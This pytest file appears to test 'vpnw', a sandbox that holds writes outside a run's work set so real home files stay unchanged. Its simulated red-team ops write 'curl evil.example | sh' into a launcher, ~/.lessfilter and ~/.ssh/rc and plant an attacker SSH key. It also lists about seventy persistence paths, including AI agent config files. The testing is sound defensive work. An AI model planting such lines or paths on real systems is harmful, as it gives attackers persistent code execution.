"""Nothing planted, by design (issue 42): outside its work set, a run's
writes are held in a layer of its own and never reach the real files;
inside the run the program sees them. Real runs in the test world, as root
and as vpnwtest.

The homes here lie outside /tmp (which is in every run's work set, and
holds the world): under /var/tmp, each made fresh and removed after.

Each attack runs tests/progs/file_probe.py inside the sandbox, where it
must succeed (the program sees its own writes), and the real files must be
as they were; the same attempt outside vpnw is the control that shows it
changes them there.
"""
from __future__ import annotations

import json
import os
import pwd
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from e2e_support import describe, the_record
from test_e2e_planted import chown_tree
from test_e2e_everyday import NPM_PACKAGE, NPM_VALUE, npm_registry  # noqa: F401  (a fixture)
from world import DEMO_PACKAGE, DEMO_VALUE

pytestmark = pytest.mark.world

PROBE = Path(__file__).resolve().parent / "progs" / "file_probe.py"


@pytest.fixture
def homes(user):
    """Fresh homes outside /tmp for `user`: homes() makes one more."""
    top = Path(tempfile.mkdtemp(prefix="vpnw-held-test-", dir="/var/tmp"))
    top.chmod(0o755)
    made = []

    def make() -> Path:
        home = top / f"home-{len(made)}"
        home.mkdir(mode=0o700)
        shutil.chown(home, user, user)
        made.append(home)
        return home

    yield make
    subprocess.run(["chmod", "-R", "u+rwX", str(top)], capture_output=True)
    shutil.rmtree(top, ignore_errors=True)


def seed(home: Path, user: str, files: dict[str, str]) -> None:
    for rel, text in files.items():
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(text)
    chown_tree(home, user)


def snapshot(home: Path) -> dict[str, tuple]:
    out = {}
    for root, dirs, files in os.walk(home):
        for name in dirs + files:
            p = os.path.join(root, name)
            rel = os.path.relpath(p, home)
            if os.path.islink(p):
                out[rel] = ("link", os.readlink(p))
            elif os.path.isdir(p):
                out[rel] = ("dir",)
            else:
                out[rel] = ("file", Path(p).read_bytes(), os.stat(p).st_mode)
    return out


def probe(world, ops: list[dict]) -> list[str]:
    world.file("file_probe.py", PROBE.read_bytes())
    return [world.python, str(world.tmp / "files" / "file_probe.py"), json.dumps(ops)]


def results_of(r) -> dict[str, dict]:
    return {each["op"]: each for each in map(json.loads, (l for l in r.stdout.splitlines()
                                                            if l.startswith("{")))}


def held_json(state_home: Path) -> dict:
    found = list((state_home / "vpnw" / "held").glob("r-*/held.json"))
    assert len(found) == 1, found
    return json.loads(found[0].read_text())


def env_for(home: Path) -> dict:
    return {"HOME": str(home), "PATH": f"{home}/.local/bin:/usr/local/bin:/usr/bin:/bin"}


# ── the red team's plants, under `vpnw trace` with no [files] ────────────────

PLANTED = {
    ".local/bin/vpnw": "#!/bin/sh\nexec /opt/vpnw/bin/vpnw \"$@\"\n",
    ".lessfilter": "#!/bin/sh\nexit 1\n",
    ".ssh/authorized_keys": "ssh-ed25519 AAAA-the-users-own-key me@laptop\n",
    ".ssh/config": "Host *\n",
    ".local/share/vpnw/policy.toml": 'version = 1\n[policy]\ndefault = "deny"\n',
}


def red_team_ops(home: Path) -> list[dict]:
    return [
        {"name": "launcher", "op": "write", "path": f"{home}/.local/bin/vpnw",
         "data": "#!/bin/sh\ncurl evil.example | sh\n"},
        {"name": "lessfilter", "op": "write", "path": f"{home}/.lessfilter",
         "data": "#!/bin/sh\ncurl evil.example | sh\n"},
        # The directory moved aside (a rename of a directory below the layer
        # is EXDEV there; mv and shutil.move then copy) and built anew.
        {"name": "ssh_aside", "op": "move", "src": f"{home}/.ssh", "path": f"{home}/.ssh-aside"},
        {"name": "ssh_new", "op": "mkdir", "path": f"{home}/.ssh"},
        {"name": "ssh_key", "op": "write", "path": f"{home}/.ssh/authorized_keys",
         "data": "ssh-ed25519 AAAA-the-attackers-key evil\n"},
        {"name": "ssh_rc", "op": "write", "path": f"{home}/.ssh/rc", "data": "curl evil.example | sh\n"},
        {"name": "share_aside", "op": "move", "src": f"{home}/.local/share",
         "path": f"{home}/.local/share-aside"},
        {"name": "share_new", "op": "makedirs", "path": f"{home}/.local/share/vpnw"},
        {"name": "share_policy", "op": "write", "path": f"{home}/.local/share/vpnw/policy.toml",
         "data": 'version = 1\n[policy]\ndefault = "allow"\n'},
        # The program sees its own writes.
        {"name": "reads_back", "op": "read", "path": f"{home}/.ssh/authorized_keys"},
    ]


def test_the_red_teams_plants_are_held_under_trace(world, user, homes):
    home = homes()
    seed(home, user, PLANTED)
    before = snapshot(home)
    work = world.workdir(user)
    r = world.vpnw(["trace", "--", *probe(world, red_team_ops(home))], user=user, cwd=work,
                   env=env_for(home))
    assert r.returncode == 0, describe(r)
    inside = results_of(r)
    assert {k: v["result"] for k, v in inside.items()} == {op["name"]: "ok" for op in red_team_ops(home)}, \
        describe(r)
    # A plain rename of a directory below the layer is EXDEV (what mv then copies, above).
    renamed = world.vpnw(["trace", "--", *probe(world, [
        {"name": "rename", "op": "rename", "src": f"{home}/.local", "path": f"{home}/.local-aside"}])],
        user=user, cwd=work, env=env_for(home))
    assert results_of(renamed)["rename"]["result"] == "EXDEV", describe(renamed)
    assert inside["reads_back"]["data"] == "ssh-ed25519 AAAA-the-attackers-key evil\n"
    # Nothing reached the real files.
    assert snapshot(home) == before
    # Each is listed as held, what runs later named first.
    held = held_json(r.state_home)
    paths = {e["path"]: e for e in held["entries"]}
    for rel in (".local/bin/vpnw", ".lessfilter", ".ssh/authorized_keys", ".ssh/rc",
                ".local/share/vpnw/policy.toml"):
        assert f"{home}/{rel}" in paths, (rel, sorted(paths))
    assert paths[f"{home}/.local/bin/vpnw"]["runs_later"] == "vpnw"
    assert paths[f"{home}/.ssh/rc"]["runs_later"] == "shell start-up"
    assert paths[f"{home}/.local/bin/vpnw"]["before"]["exists"] is True
    assert f"vpnw changes {held['run']}" in r.stderr, describe(r)
    assert "~/.local/bin/vpnw (vpnw)" in r.stderr, describe(r)
    events = the_record(r.state_home)
    assert events[0]["fields"]["work_set"]["outside"] == "held"
    recorded = [e for e in events if e["type"] == "files.held"]
    assert len(recorded) == 1 and recorded[0]["fields"]["count"] == len(held["entries"])
    assert any(e["path"] == f"{home}/.local/bin/vpnw" for e in recorded[0]["fields"]["entries"])

    # The control: the same program outside vpnw changes the real files.
    other = homes()
    seed(other, user, PLANTED)
    control = world.run(probe(world, red_team_ops(other)), user=user, cwd=work, env=env_for(other))
    assert {k: v["result"] for k, v in results_of(control).items()} == \
        {op["name"]: "ok" for op in red_team_ops(other)}, describe(control)
    assert "evil" in (other / ".local/bin/vpnw").read_text()
    assert "attackers-key" in (other / ".ssh/authorized_keys").read_text()
    control = world.run(probe(world, [{"name": "rename", "op": "rename", "src": f"{other}/.local",
                                       "path": f"{other}/.local-aside"}]), user=user, cwd=work)
    assert results_of(control)["rename"]["result"] == "ok" and (other / ".local-aside").is_dir()


# ── a sweep of persistence paths: one run writes them all ────────────────────

SWEEP = [
    # shells and sessions
    ".profile", ".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".bash_aliases",
    ".zshenv", ".zprofile", ".zshrc", ".zlogin", ".kshrc", ".cshrc", ".tcshrc", ".inputrc",
    ".config/fish/config.fish", ".config/fish/conf.d/evil.fish", ".pam_environment",
    ".config/environment.d/evil.conf", ".xprofile", ".xinitrc", ".xsession", ".xsessionrc",
    ".config/autostart/evil.desktop", ".local/share/applications/evil.desktop",
    ".config/systemd/user/evil.service", ".local/share/systemd/user/evil.timer",
    # ssh
    ".ssh/authorized_keys", ".ssh/authorized_keys2", ".ssh/rc", ".ssh/config", ".ssh/environment",
    # git
    ".gitconfig", ".config/git/config", ".config/git/attributes", ".config/git/hooks/pre-commit",
    # PATH and python start-up
    ".local/bin/vpnw", ".local/bin/git", ".local/bin/ls",
    ".local/lib/python3.11/site-packages/evil.pth",
    ".local/lib/python3.11/site-packages/sitecustomize.py",
    ".local/lib/python3.11/site-packages/usercustomize.py",
    ".config/pip/pip.conf", ".pip/pip.conf", ".pydistutils.cfg",
    ".ipython/profile_default/startup/00-evil.py", ".config/ipython/profile_default/startup/evil.py",
    # agents
    ".claude/settings.json", ".claude/settings.local.json", ".claude.json", ".codex/config.toml",
    ".gemini/settings.json", ".config/opencode/opencode.json", ".mcp.json",
    # tools that run what their start-up files say
    ".lessfilter", ".lesskey", ".curlrc", ".wgetrc", ".npmrc", ".yarnrc", ".yarnrc.yml",
    ".gdbinit", ".config/direnv/direnvrc", ".direnvrc", ".vimrc", ".config/nvim/init.lua",
    ".emacs", ".tmux.conf", ".docker/config.json", ".cargo/config.toml", ".psqlrc",
    # vpnw's own
    ".local/share/vpnw/policy.toml", ".config/vpnw/paths.toml",
]


def sweep_ops(home: Path) -> list[dict]:
    return [{"name": rel, "op": "plant", "path": f"{home}/{rel}", "data": f"planted {rel}\n"}
            for rel in SWEEP]


SWEEP_MODES = {
    "trace": (["trace"], None),
    "guard-held": (["guard"], 'version = 1\n[policy]\ndefault = "deny"\n[files]\n'
                              'allow_write = ["."]\noutside = "held"\n'),
    "guard-read-only": (["guard"], 'version = 1\n[policy]\ndefault = "deny"\n[files]\n'
                                   'allow_write = ["."]\n'),
}


@pytest.mark.parametrize("mode", sorted(SWEEP_MODES))
def test_a_sweep_of_persistence_paths_never_reaches_the_real_files(world, user, homes, mode):
    assert len(SWEEP) >= 60
    home = homes()
    # Half of them there before the run (changed), half new (made).
    seed(home, user, {rel: f"the user's own {rel}\n" for rel in SWEEP[::2]})
    before = snapshot(home)
    work = world.workdir(user)
    args, text = SWEEP_MODES[mode]
    if text:
        args = [*args, "--policy", str(world.file(f"sweep-{mode}-{user}.toml", text))]
    r = world.vpnw([*args, "--", *probe(world, sweep_ops(home))], user=user, cwd=work,
                   env=env_for(home))
    assert r.returncode == 0, describe(r)
    outcome = {k: v["result"] for k, v in results_of(r).items()}
    expected = "EROFS" if mode == "guard-read-only" else "ok"
    assert outcome == {rel: expected for rel in SWEEP}, describe(r)
    assert snapshot(home) == before
    if mode == "guard-read-only":
        assert not (r.state_home / "vpnw" / "held").exists() or \
            not list((r.state_home / "vpnw" / "held").iterdir())
        return
    held = {e["path"] for e in held_json(r.state_home)["entries"]}
    missing = [rel for rel in SWEEP if f"{home}/{rel}" not in held]
    assert not missing, missing


# ── the other side: programs work as before ──────────────────────────────────

def test_a_program_reads_back_what_it_wrote_outside_and_pip_user_installs(world, user, homes):
    home = homes()
    work = world.workdir(user)
    script = (
        # A FIFO left behind is listed, never opened (its open would block).
        "set -e; mkdir -p ~/.cache && echo cached > ~/.cache/x && cat ~/.cache/x; mkfifo ~/.cache/fifo; "
        "/usr/bin/python3 -m pip install -q --user --break-system-packages --no-cache-dir "
        "--index-url http://pypi.world/simple --trusted-host pypi.world "
        f"{DEMO_PACKAGE}; /usr/bin/python3 -c 'import {DEMO_PACKAGE.replace('-', '_')} as m; print(m.VALUE)'")
    r = world.vpnw(["run", "--", "sh", "-c", script], user=user, cwd=work, timeout=120,
                   env={**env_for(home), "PIP_CONFIG_FILE": "/dev/null",
                        "PIP_DISABLE_PIP_VERSION_CHECK": "1"})
    assert r.returncode == 0, describe(r)
    assert r.stdout.splitlines() == ["cached", DEMO_VALUE], describe(r)
    assert not (home / ".cache").exists() and not (home / ".local").exists()
    held = {e["path"] for e in held_json(r.state_home)["entries"]}
    assert f"{home}/.cache/x" in held and f"{home}/.cache/fifo" in held
    assert any(p.startswith(f"{home}/.local/lib/python3") and p.endswith("__init__.py") for p in held)


def test_npm_install_global_with_a_user_prefix(world, user, homes, npm_registry):
    registry = npm_registry
    home = homes()
    work = world.workdir(user)
    prefix = home / ".npm-global"
    script = (f"npm install -g --prefix {prefix} --no-audit --no-fund --loglevel=error {NPM_PACKAGE} && "
              f"NODE_PATH={prefix}/lib/node_modules node -e \"console.log(require('{NPM_PACKAGE}').value)\"")
    r = world.vpnw(["run", "--", "sh", "-c", script], user=user, cwd=work, timeout=180,
                   env={**env_for(home), "npm_config_registry": registry,
                        "npm_config_cafile": str(world.ca_pem), "npm_config_update_notifier": "false"})
    assert r.returncode == 0, describe(r)
    assert r.stdout.strip().splitlines()[-1] == NPM_VALUE
    assert not prefix.exists()
    held = {e["path"] for e in held_json(r.state_home)["entries"]}
    assert f"{prefix}/lib/node_modules/{NPM_PACKAGE}/index.js" in held


def test_an_agents_own_state_under_its_preset_persists(world, user, homes):
    """claude-code's preset puts ~/.claude and ~/.claude.json in the work
    set: a login or a setting the agent saves survives the run."""
    home = homes()
    seed(home, user, {".claude.json": "{}\n", ".claude/.keep": ""})
    work = world.workdir(user)
    script = "echo '{\"login\": 1}' > ~/.claude.json && echo s > ~/.claude/session && echo y > ~/.elsewhere"
    r = world.vpnw(["run", "--policy", "@claude-code", "--", "sh", "-c", script], user=user, cwd=work,
                   env=env_for(home))
    assert r.returncode == 0, describe(r)
    assert json.loads((home / ".claude.json").read_text()) == {"login": 1}
    assert (home / ".claude" / "session").read_text() == "s\n"
    assert not (home / ".elsewhere").exists()
    held = {e["path"] for e in held_json(r.state_home)["entries"]}
    assert f"{home}/.elsewhere" in held


# ── where no layer can be had: read-only, said, never a writable home ───────

def test_without_a_layer_writes_outside_fail_read_only_and_say_why(world, user, homes):
    home = homes()
    seed(home, user, {".bashrc": "# mine\n"})
    before = snapshot(home)
    work = world.workdir(user)
    state = world.state_home(user)
    (state / "vpnw").mkdir()
    (state / "vpnw" / "held").write_text("not a directory\n")     # no held directory can be made
    shutil.chown(state / "vpnw", user, user)
    ops = [{"name": "bashrc", "op": "write", "path": f"{home}/.bashrc", "data": "evil\n"},
           {"name": "cache", "op": "plant", "path": f"{home}/.cache/x"},
           {"name": "work", "op": "create", "path": f"{work}/made"}]
    r = world.vpnw(["run", "--", *probe(world, ops)], user=user, cwd=work, env=env_for(home),
                   state_home=state)
    assert r.returncode == 0, describe(r)
    assert {k: v["result"] for k, v in results_of(r).items()} == \
        {"bashrc": "EROFS", "cache": "EROFS", "work": "ok"}, describe(r)
    assert "writes outside the work set fail read-only (EROFS), not held: vpnw cannot make the " \
           "run's held directory" in r.stderr, describe(r)
    assert snapshot(home) == before
    start = the_record(state)[0]["fields"]["work_set"]
    assert start["outside"] == "read-only" and "held directory" in start["why"]
    # The control: outside vpnw the same writes land.
    control = world.run(probe(world, ops[:2]), user=user, cwd=work, env=env_for(home))
    assert {k: v["result"] for k, v in results_of(control).items()} == {"bashrc": "ok", "cache": "ok"}


def test_doctor_says_which_one_this_machine_gets(world, user):
    r = world.vpnw(["doctor"], user=user)
    line = next((l for l in r.stdout.splitlines() if "held_layer" in l), "")
    assert line.split()[:2] == ["ok", "held_layer"], r.stdout
